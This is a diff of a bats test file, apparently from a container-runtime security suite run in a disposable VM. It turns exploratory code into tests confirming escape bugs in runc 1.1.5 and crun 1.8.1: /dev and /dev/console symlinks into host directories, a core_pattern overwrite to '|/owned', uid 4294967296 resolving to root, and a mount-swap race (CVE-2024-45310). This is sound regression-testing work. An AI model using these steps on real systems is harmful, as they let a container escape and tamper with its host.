@@ -4,6 +4,8 @@
 # The effects stay in the throw-away machine: never run this anywhere else.
 # where: vm
 
+# shellcheck disable=SC2034 # variables are for helpers.bash
+
 load ../cli/helpers
 load ../cli/tools
 load attack
@@ -46,76 +48,105 @@ peer_with_bug() { # NAME VERSION
 	[[ $("$1" --version) == *"$1 version $2"* ]] || skip "not $1 $2, which has the bug"
 }
 
-@test "EXPLORE" {
-	set +e
-	exec >&2
-	local rt t
-	for rt in runc crun; do
-		cp "$BUNDLE/config.json" "$TMP/base.json"
-		echo "== $rt plain"
-		set_args echo hello
-		peer $rt run --bundle "$BUNDLE" "$ID"; show_last
-		echo "== $rt T13"
-		no_mount /dev /dev/pts /dev/shm /dev/mqueue
-		for t in "$HOST/dir" "../../../../../../../..$HOST/dir"; do
-			rm -rf "$BUNDLE/rootfs/dev"; ln -s "$t" "$BUNDLE/rootfs/dev"
-			peer $rt run --bundle "$BUNDLE" "$ID"; show_last
-			ls -l "$HOST/dir"; rm -rf "$HOST/dir"/{null,zero,full,random,urandom,tty,ptmx,fd,std*,core,console}
-		done
-		rm -rf "$BUNDLE/rootfs/dev"; mkdir "$BUNDLE/rootfs/dev"
-		echo "== $rt T16"
-		cp "$TMP/base.json" "$BUNDLE/config.json"
-		rm -rf "$TMP/volume"; mkdir -p "$TMP/volume"/{pts,shm,mqueue}
-		edit_config '.mounts |= map(if .destination == "/dev" then {destination: "/dev", source: $volume, options: ["bind"]} else . end) | .linux.readonlyPaths = []' --arg volume "$TMP/volume"
-		set_args sh -c 'for i in /proc/timer_list /proc/keys /proc/interrupts; do cat $i; echo "|/owned $i" >$i; stat -c "%F %t,%T" $i; done 2>&1 | head -30'
-		ln -sfn /proc/sys/kernel/core_pattern "$TMP/volume/null"
-		peer $rt run --bundle "$BUNDLE" "$ID"; show_last
-		cat /proc/sys/kernel/core_pattern
-		echo "$core_pattern" >/proc/sys/kernel/core_pattern
-		echo "== $rt T16 file"
-		rm "$TMP/volume/null"; echo s3cret >"$TMP/volume/null"
-		peer $rt run --bundle "$BUNDLE" "$ID"; show_last
-		cp "$TMP/base.json" "$BUNDLE/config.json"
-		echo "== $rt T07"
-		set_args ls -a .
-		exec 7</ 8<"$HOST"
-		for t in 5 6 7 8 9; do
-			edit_config '.process.cwd = $cwd' --arg cwd "/proc/self/fd/$t"
-			peer $rt run --bundle "$BUNDLE" "$ID"; show_last
-		done
-		exec 7<&- 8<&-
-		cp "$TMP/base.json" "$BUNDLE/config.json"
-		echo "== $rt T21"
-		set_args sleep 1000
-		edit_config '.process.user={uid:5,gid:6}'
-		timeout 60 $rt --root $TMP/peer run -d --bundle "$BUNDLE" "$ID" </dev/null >/dev/null 2>&1 3>&- 4>&-
-		for t in 1 1000x 4294967296 -1 "" ; do peer $rt exec --user "$t" "$ID" id; show_last; done
-		peer $rt delete -f "$ID"
-		cp "$TMP/base.json" "$BUNDLE/config.json"
-		echo "== $rt T10 devices"
-		set_args true
-		ln -s "$HOST/dir" "$BUNDLE/rootfs/l1"
-		edit_config '.linux.devices = [{path: "/l1/node", type: "c", major: 1, minor: 3, fileMode: 438}]'
-		peer $rt run --bundle "$BUNDLE" "$ID"; show_last; ls -l "$HOST/dir"; rm -f $HOST/dir/node
-		cp "$TMP/base.json" "$BUNDLE/config.json"
-		echo "== $rt T10 console"
-		no_mount /dev /dev/pts /dev/shm /dev/mqueue
-		edit_config '.process.terminal = true | .mounts += [{destination: "/dev/pts", type: "devpts", source: "devpts", options: ["newinstance", "ptmxmode=0666", "mode=0620"]}]'
-		rm -rf "$BUNDLE/rootfs/dev"; mkdir "$BUNDLE/rootfs/dev"; ln -s "$HOST/newfile" "$BUNDLE/rootfs/dev/console"
-		timeout 60 "$tool_dir/ptyrun" $rt --root $TMP/peer run --bundle "$BUNDLE" "$ID" </dev/null 3>&- 4>&-
-		ls -l $HOST; rm -f $HOST/newfile
-		rm -rf "$BUNDLE/rootfs/dev" "$BUNDLE/rootfs/l1"; mkdir "$BUNDLE/rootfs/dev"
-		cp "$TMP/base.json" "$BUNDLE/config.json"
-		echo "== $rt T11"
-		mkdir -p "$TMP/volume/real"; ln -s "$HOST/dir" "$TMP/volume/link"
-		edit_config '.mounts += [{destination: "/volume", source: $volume, options: ["bind"]}] + ([range(8)] | map({destination: "/volume/real/d\(.)/e/f", type:"tmpfs", source: "tmpfs"}))' --arg volume "$TMP/volume"
-		swap "$TMP/volume/real" "$TMP/volume/link"
-		for t in 1 2 3 4 5 6 7 8; do peer $rt run --bundle "$BUNDLE" "$ID"; echo "$status ${stderr:0:200}"; ls $HOST/dir | xargs; done
-		stop_swap
-		ls -R "$HOST"
-		rm -rf $HOST/dir/d*
-		cp "$TMP/base.json" "$BUNDLE/config.json"
-		rm -rf "$TMP/volume"
+# ---- T10, T13: links in the image --------------------------------------------------------------
+
+# dev_link NAME TARGET: the image's /dev is a link, nothing is mounted on it.
+dev_link() {
+	no_mount /dev /dev/pts /dev/shm /dev/mqueue
+	set_args true
+	rm -rf "$BUNDLE/rootfs/dev"
+	ln -s "$2" "$BUNDLE/rootfs/dev"
+	peer "$1" run --bundle "$BUNDLE" "$ID"
+	[[ -L $HOST/dir/ptmx || -e $HOST/dir/null ]] ||
+		fail "$1 made nothing on the host: $(ls -l "$HOST/dir")" "$(show_last)"
+	! assert_canary 2>/dev/null || fail "assert_canary does not see it"
+}
+
+@test "T13: runc 1.1.5 fills a host directory that /dev leads to: absolute link" {
+	peer_with_bug runc 1.1.5
+	dev_link runc "$HOST/dir"
+}
+
+@test "T13: runc 1.1.5: relative link" {
+	peer_with_bug runc 1.1.5
+	dev_link runc "../../../../../../../..$HOST/dir"
+}
+
+@test "T13: crun 1.8.1 fills a host directory that /dev leads to: absolute link" {
+	peer_with_bug crun 1.8.1
+	dev_link crun "$HOST/dir"
+}
+
+@test "T13: crun 1.8.1: relative link" {
+	peer_with_bug crun 1.8.1
+	dev_link crun "../../../../../../../..$HOST/dir"
+}
+
+@test "T10: crun 1.8.1 makes a host file that /dev/console leads to" {
+	peer_with_bug crun 1.8.1
+	no_mount /dev /dev/pts /dev/shm /dev/mqueue
+	set_args true
+	edit_config '.process.terminal = true | .mounts += [{destination: "/dev/pts", type: "devpts",
+		source: "devpts", options: ["newinstance", "ptmxmode=0666", "mode=0620"]}]'
+	rm -rf "$BUNDLE/rootfs/dev"
+	mkdir "$BUNDLE/rootfs/dev"
+	ln -s "$HOST/new" "$BUNDLE/rootfs/dev/console"
+	timeout 100 "$tool_dir/ptyrun" crun --root "$TMP/peer" run --bundle "$BUNDLE" "$ID" \
+		</dev/null >"$TMP/stdout" 2>&1 3>&- 4>&- || true
+	[[ -e $HOST/new ]] || fail "crun made nothing on the host: $(cat "$TMP/stdout")"
+	! assert_canary 2>/dev/null || fail "assert_canary does not see it"
+}
+
+# ---- T16: masks --------------------------------------------------------------------------------
+
+# masked_by NAME: /dev is the attacker's volume, its null a link to core_pattern.
+masked_by() {
+	mkdir -p "$TMP/volume"/{pts,shm,mqueue}
+	ln -s /proc/sys/kernel/core_pattern "$TMP/volume/null"
+	edit_config '.mounts |= map(if .destination == "/dev"
+		then {destination: "/dev", source: $volume, options: ["bind"]} else . end)
+		| .linux.readonlyPaths = []' --arg volume "$TMP/volume"
+	set_args sh -c 'cat /proc/keys; echo "|/owned" >/proc/keys'
+	peer "$1" run --bundle "$BUNDLE" "$ID"
+}
+
+@test "T16: runc 1.1.5 masks with what the container's /dev/null leads to: core_pattern is set" {
+	peer_with_bug runc 1.1.5
+	masked_by runc
+	assert_equal "$(cat /proc/sys/kernel/core_pattern)" "|/owned"
+	assert_output_has "$core_pattern"
+}
+
+# ---- T21: numbers ------------------------------------------------------------------------------
+
+@test "T21: runc 1.1.5 takes user 4294967296 for root" {
+	peer_with_bug runc 1.1.5
+	edit_config '.process.user = {uid: 5, gid: 6}'
+	timeout 100 runc --root "$TMP/peer" run --detach --bundle "$BUNDLE" "$ID" </dev/null \
+		>/dev/null 2>&1 3>&- 4>&-
+	peer runc exec --user 4294967296 "$ID" id -u
+	assert_stdout 0
+	peer runc delete --force "$ID"
+}
+
+# ---- T11: races --------------------------------------------------------------------------------
+
+# Luck: BAWN_TEST_ROUNDS says how long to try; that it was in vain is no failure.
+@test "T11: runc 1.1.5 makes directories on the host (CVE-2024-45310)" {
+	local i n
+	peer_with_bug runc 1.1.5
+	n=$(rounds 0 6)
+	mkdir -p "$TMP/volume/real"
+	ln -s "$HOST/dir" "$TMP/volume/link"
+	edit_config '.mounts += [{destination: "/volume", source: $volume, options: ["bind"]}]
+		+ ([range(12)] | map({destination: "/volume/real/d\(.)/e/f/g", type: "tmpfs",
+			source: "tmpfs"}))' --arg volume "$TMP/volume"
+	set_args true
+	swap "$TMP/volume/real" "$TMP/volume/link"
+	for ((i = 0; i < n; i++)); do
+		peer runc run --bundle "$BUNDLE" "$ID-$i"
+		assert_canary 2>/dev/null || break
 	done
-	false
+	stop_swap
+	((i < n)) || skip "no hit in $n starts"
 }
